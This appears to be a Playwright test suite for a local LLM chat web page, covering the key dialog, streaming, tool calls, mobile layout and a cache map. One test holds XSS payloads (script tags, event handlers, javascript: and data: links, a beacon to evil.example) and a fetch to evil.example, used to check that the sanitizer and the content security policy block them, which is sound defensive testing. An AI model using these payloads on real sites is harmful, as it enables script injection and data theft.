"""The page in a real browser: Debian's Chromium, driven by Playwright."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Callable, Iterator
from contextlib import closing
from dataclasses import replace
from importlib.util import find_spec
from pathlib import Path
from typing import Any

import pytest

from flash_moe.generation.prepare import Preparer
from flash_moe.model.streamed import StreamedModel
from flash_moe.stream.stats import RankStats
from tests.support.local_server import LocalServer
from tests.support.scripted_server import ForcedTokens
from tests.support.timeout import TIMEOUT_S, wait_until

CHROMIUM = shutil.which("chromium")
pytestmark = [
    pytest.mark.process,
    pytest.mark.skipif(not CHROMIUM, reason="needs chromium: sh scripts/test_tools.sh"),
    pytest.mark.skipif(not find_spec("playwright"), reason="needs playwright, of the extra dev"),
]
KEY = "secret-key"
SAY = Callable[[str], None]


@pytest.fixture(scope="module")
def server() -> Iterator[LocalServer]:
    with closing(LocalServer(api_key=KEY, concurrency=1)) as made:
        yield made


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        # Containers often forbid the namespaces of Chromium's own sandbox.
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def problems() -> list[str]:
    """Errors of the page: exceptions, and what the content security policy blocks."""
    return []


@pytest.fixture(scope="module")
def tab(browser: Any, problems: list[str]) -> Any:
    """A tab for all tests: a new one costs half a second more than a page loaded in it."""
    page = browser.new_page()
    page.set_default_timeout(1000 * TIMEOUT_S)
    page.on("pageerror", lambda error: problems.append(str(error)))
    page.on("console", lambda message: problems.append(message.text))
    page.add_init_script(f"sessionStorage.setItem('flash-moe-key', '{KEY}')")
    return page


@pytest.fixture
def page(tab: Any, server: LocalServer, problems: list[str]) -> Iterator[Any]:
    """The page as after opening it, with the key already entered."""
    tab.set_viewport_size({"width": 1280, "height": 800})
    tab.emulate_media(color_scheme="light")
    problems.clear()
    tab.goto(server.url)
    tab.wait_for_selector("#status[data-state=connected]")
    yield tab
    tab.unroute_all()
    tab.evaluate("sessionStorage.clear()")
    tab.goto("about:blank")
    wait_until(lambda: server.service.idle)


@pytest.fixture
def say(monkeypatch: pytest.MonkeyPatch) -> SAY:
    """Make the model write a text; its reasoning, if the prompt opens it, is part of the text."""

    def force(text: str) -> None:
        def prepare(self: Any, request: Any, check: Any) -> Any:
            made = plain(self, request, check)
            end = self._tokenizer.convert_tokens_to_ids("<|im_end|>")
            tokens = [*self._tokenizer.encode(text, add_special_tokens=False), end]
            return replace(
                made,
                run=replace(made.run, processors=lambda tokenizer: [ForcedTokens(list(tokens))]),
            )

        monkeypatch.setattr(Preparer, "prepare", prepare)

    plain = Preparer.prepare
    return force


def ask(page: Any, text: str) -> None:
    page.fill("#question", text)
    page.keyboard.press("Enter")


def answer_of(page: Any, number: int = 0) -> Any:
    """The answer with this number, complete."""
    answer = page.locator("article[data-role=assistant]").nth(number)
    answer.locator(".note").wait_for()
    return answer


def answer_with(page: Any, *deltas: dict[str, Any]) -> None:
    """Answer the chat's requests in place of the server."""
    chunks = [{"choices": [{"delta": delta, "finish_reason": None}]} for delta in deltas]
    chunks.append({"choices": [{"delta": {}, "finish_reason": "stop"}]})
    body = "".join(f"data: {json.dumps(chunk)}\n\n" for chunk in chunks) + "data: [DONE]\n\n"
    page.route(
        "**/v1/chat/completions",
        lambda route: route.fulfill(content_type="text/event-stream", body=body),
    )


def test_the_key(browser: Any, server: LocalServer, say: SAY) -> None:
    say("Hello **you**.")
    page = browser.new_page()
    page.set_default_timeout(1000 * TIMEOUT_S)
    urls: list[str] = []
    page.on("request", lambda request: urls.append(request.url))
    page.goto(server.url)
    page.wait_for_selector("#key-dialog[open]")
    page.keyboard.type("wrong")
    page.keyboard.press("Enter")
    page.wait_for_selector("#key-problem[data-bad]")
    page.fill("#key", KEY)
    page.keyboard.press("Enter")
    page.wait_for_selector("#status[data-state=connected]")
    ask(page, "Hi")
    answer_of(page)
    assert not page.locator("#key-dialog[open]").count()
    assert not [url for url in urls if KEY in url]
    assert KEY not in page.evaluate("JSON.stringify(localStorage)")
    page.close()


def test_a_conversation(page: Any, server: LocalServer, say: SAY, problems: list[str]) -> None:
    """Typed and sent by keyboard, streamed, kept over a reload, downloaded."""
    say(
        "I add them.\n</think>\n\nThe sum:\n\n| a | b |\n|---|---|\n| 2 | **3** |\n\n"
        "```py\n2 + 3\n```"
    )
    page.click("#settings summary")
    page.fill("[name=system]", "Be brief.")
    page.fill("[name=temperature]", "0.5")
    page.fill("[name=max_tokens]", "300")
    bodies: list[Any] = []
    page.on(
        "request", lambda r: r.method == "POST" and bodies.append(json.loads(r.post_data or ""))
    )
    page.focus("#question")
    page.keyboard.type("How much is")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("2 + 3?")
    page.keyboard.press("Enter")
    answer = answer_of(page)
    assert answer.locator("table strong").inner_text() == "3"
    assert answer.locator("pre code").inner_text().strip() == "2 + 3"
    reasoning = answer.locator("details.reasoning")
    assert reasoning.get_attribute("open") is None
    assert reasoning.locator("div").text_content().strip() == "I add them."
    assert "tokens/s" in answer.locator(".note").inner_text()
    say("Yes.")
    ask(page, "Sure?")
    answer_of(page, 1)
    assert bodies[0]["messages"] == [
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": "How much is\n2 + 3?"},
    ]
    assert (bodies[0]["temperature"], bodies[0]["max_tokens"]) == (0.5, 300)
    assert "top_p" not in bodies[0]
    history = bodies[1]["messages"]
    assert history[2]["reasoning"].strip() == "I add them."
    assert history[3] == {"role": "user", "content": "Sure?"}
    page.reload()
    assert page.locator("article").count() == 4
    assert page.locator("article table strong").inner_text() == "3"
    assert page.input_value("[name=temperature]") == "0.5"
    with page.expect_download() as waiting:
        page.click("#download")
    saved = json.loads(Path(waiting.value.path()).read_text(encoding="utf-8"))
    assert [each["role"] for each in saved["messages"]] == ["user", "assistant"] * 2
    assert saved["settings"]["system"] == "Be brief."
    assert KEY not in json.dumps(saved)
    page.click("#new")
    assert page.locator("article").count() == 0
    assert problems == []


def test_stop(page: Any, server: LocalServer, say: SAY) -> None:
    say("</think>" + " word" * 3000)
    for number, stop in enumerate(("button", "Escape")):
        ask(page, "Talk")
        page.locator(".text", has_text="word").nth(number).wait_for()
        if stop == "button":
            page.click("#stop")
        else:
            page.keyboard.press(stop)
        assert answer_of(page, number).locator(".note").inner_text() == "Stopped."
        wait_until(lambda: server.service.idle)  # the engine does not go on
    assert page.locator("#send").is_visible()


def test_calls_of_tools(page: Any, say: SAY, problems: list[str]) -> None:
    parameters = {"type": "object", "properties": {"expression": {"type": "string"}}}
    tool = {"type": "function", "function": {"name": "calculate", "parameters": parameters}}
    page.click("#settings summary")
    page.fill("[name=tools]", json.dumps([tool]))
    function = {"name": "calculate", "arguments": '{"expression": "7 * 6"}'}
    answer_with(
        page,
        {"reasoning": "A tool can do that."},
        {"tool_calls": [{"index": 0, "id": "call_1", "type": "function", "function": function}]},
    )
    ask(page, "How much is 7 * 6?")
    call = page.locator("article[data-role=assistant] .call")
    assert call.locator("code").inner_text() == "calculate"
    assert json.loads(call.locator("pre").inner_text()) == {"expression": "7 * 6"}
    page.unroute("**/v1/chat/completions")
    say("</think>It is 42.")  # the server accepts the call and its result
    call.locator("textarea").fill("42")
    call.locator("button").click()
    page.locator(".text", has_text="It is 42.").wait_for()
    assert page.locator("article[data-role=tool]").inner_text() == "42"
    assert problems == []


HOSTILE = (
    "<script>window.hacked = 1</script>\n\n<img src=x onerror='window.hacked = 1'>\n\n"
    "![pixel](https://evil.example/p.png?secret) [link](javascript:window.hacked=1)\n\n"
    "[data](data:text/html,<script>window.hacked=1</script>) <svg onload=window.hacked=1>\n\n"
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe> "
    "<a href='https://evil.example' onclick='window.hacked=1'>x</a>\n\n"
    "[fine](https://example.org)"
)


def hostile_call() -> dict[str, Any]:
    return {
        "index": 0,
        "id": "call_1",
        "type": "function",
        "function": {"name": HOSTILE.partition("\n")[0], "arguments": HOSTILE},
    }


def test_a_hostile_answer(page: Any, problems: list[str]) -> None:
    outside: list[str] = []
    page.on("request", lambda r: "127.0.0.1" in r.url or outside.append(r.url))
    deltas = [{"content": part} for part in re.split("(?<=[>)])", HOSTILE)]
    deltas.insert(0, {"reasoning": HOSTILE})
    answer_with(page, *deltas, {"tool_calls": [hostile_call()]})
    ask(page, "Attack")
    page.wait_for_selector("#send:not([hidden])")
    answer = page.locator("article[data-role=assistant]")
    call = answer.locator(".call")
    assert call.locator("code").inner_text() == HOSTILE.partition("\n")[0]
    assert call.locator("img, script").count() == 0
    assert answer.locator(".reasoning").locator("img, script, a").count() == 0
    links = answer.locator("a")
    assert links.evaluate_all("all => all.map((a) => a.getAttribute('href')).filter(Boolean)") == [
        "https://evil.example/p.png?secret",  # to click; the image is not loaded
        "https://example.org",
    ]
    assert set(links.evaluate_all("all => all.map((a) => a.rel)")) == {"noopener noreferrer"}
    inside = answer.locator(".text")
    assert inside.locator("script, img, svg, iframe, style, form, [onclick], [style]").count() == 0
    assert "<script>window.hacked = 1</script>" in inside.inner_text()  # as text
    assert page.evaluate("window.hacked") is None
    assert outside == []
    assert problems == []
    # What the sanitizer would miss, the policy blocks.
    blocked = page.evaluate(
        """async () => {
            const outcomes = [];
            try { document.body.innerHTML = '<b>x</b>'; } catch { outcomes.push('html'); }
            const script = document.createElement('script');
            try { script.textContent = 'window.hacked = 1'; } catch { outcomes.push('script'); }
            try { await fetch('https://evil.example'); } catch { outcomes.push('fetch'); }
            return outcomes;
        }"""
    )
    assert blocked == ["html", "script", "fetch"]
    assert page.evaluate("window.hacked") is None
    assert any("Content Security Policy" in each for each in problems)


def test_a_line_of_100_kilobytes_on_a_phone(page: Any, problems: list[str]) -> None:
    page.set_viewport_size({"width": 400, "height": 800})
    line = "long " * 10_000 + "x" * 50_000
    parts = [line[n : n + 5000] for n in range(0, len(line), 5000)]
    answer_with(page, {"reasoning": "y" * 1000}, *({"content": part} for part in parts))
    ask(page, "Talk")
    page.wait_for_selector("#send:not([hidden])")
    text = page.locator("article[data-role=assistant] .text")
    assert text.text_content().strip() == line
    for view in ("chat", "live"):
        page.click(f"nav button[data-view={view}]")
        page.wait_for_selector(f"#{view}", state="visible")
        assert page.evaluate("document.scrollingElement.scrollWidth") == 400
        assert page.locator("#question").is_visible() is (view == "chat")
        assert page.locator("#map").is_visible() is (view == "live")
    assert problems == []


def lightness(page: Any, name: str) -> float:
    """From 0 to 1, of a colour of the page."""
    color = page.evaluate(f"getComputedStyle(document.body)['{name}']")
    return sum(map(float, re.findall(r"[\d.]+", color)[:3])) / (3 * 255)


CELLS = """() => {
    const canvas = document.getElementById('map');
    const context = canvas.getContext('2d');
    const style = getComputedStyle(document.documentElement);
    const names = ['absent', 'cached', 'recent', 'used', 'reading', 'evicted'];
    const colors = Object.fromEntries(
        names.map((name) => [style.getPropertyValue('--' + name), name]));
    const hex = (data) =>
        '#' + [...data].slice(0, 3).map((n) => n.toString(16).padStart(2, '0')).join('');
    const rows = [];
    for (let y = 0; y < 8; y++) {
        const row = [];
        for (let x = 0; x < 40; x++) {
            const at = [(x + 0.4) * canvas.width / 40, (y + 0.4) * canvas.height / 8];
            row.push(colors[hex(context.getImageData(...at, 1, 1).data)] ?? 'unknown');
        }
        rows.push(row);
    }
    return rows;
}"""


def test_the_map_shows_the_cache_in_light_and_dark(
    page: Any, server: LocalServer, say: SAY
) -> None:
    """Its cells have the right colours, before and after the layout changes."""
    say("</think>" + " word" * 10)
    ask(page, "Talk")
    answer_of(page)
    wait_until(lambda: server.service.idle)
    held = server.engine.flash.model.cache_contents().cached
    for scheme, width in (("light", 1280), ("dark", 1100)):
        page.emulate_media(color_scheme=scheme)
        page.set_viewport_size({"width": width, "height": 800})
        back, text = lightness(page, "background-color"), lightness(page, "color")
        assert (back < 0.2) is (scheme == "dark")
        assert abs(back - text) > 0.6

        def cells() -> list[list[bool]]:
            return [[each in ("cached", "recent") for each in row] for row in page.evaluate(CELLS)]

        wait_until(lambda: cells() == held.tolist())
        names = {each for row in page.evaluate(CELLS) for each in row}
        assert names <= {"absent", "cached", "recent", "evicted"}
    page.hover("#map", position={"x": 2, "y": 2})
    assert page.locator("#readout").inner_text().startswith("layer 0, expert 0: ")


@pytest.fixture
def two_machines(server: LocalServer, monkeypatch: pytest.MonkeyPatch) -> None:
    ranks = tuple(RankStats(rank, 5_000_000, 3, 1, 10**7, 0.5, 1.25) for rank in (0, 1))
    counted = replace(server.engine.flash.model.stats, ranks=ranks)
    monkeypatch.setattr(StreamedModel, "stats", property(lambda model: counted))


def test_several_machines(two_machines: None, page: Any) -> None:
    page.get_by_text("Machine 2").wait_for()
    figures = page.locator("#figures").inner_text()
    assert figures.count("5.00 MB read") == 2
    assert figures.count("75.0 % hits, waited 1.25 s for others") == 2


def test_a_server_that_goes_away_and_comes_back(page: Any, server: LocalServer, say: SAY) -> None:
    say("</think>Back.")
    server.go_away()
    page.wait_for_selector("#status[data-state=lost]")
    ask(page, "Are you there?")
    note = answer_of(page).locator(".note")
    assert "cannot be reached" in note.inner_text()
    server.open()
    page.wait_for_selector("#status[data-state=connected]")
    note.locator("button").click()
    page.locator(".text", has_text="Back.").wait_for()
    assert page.locator("article").count() == 2
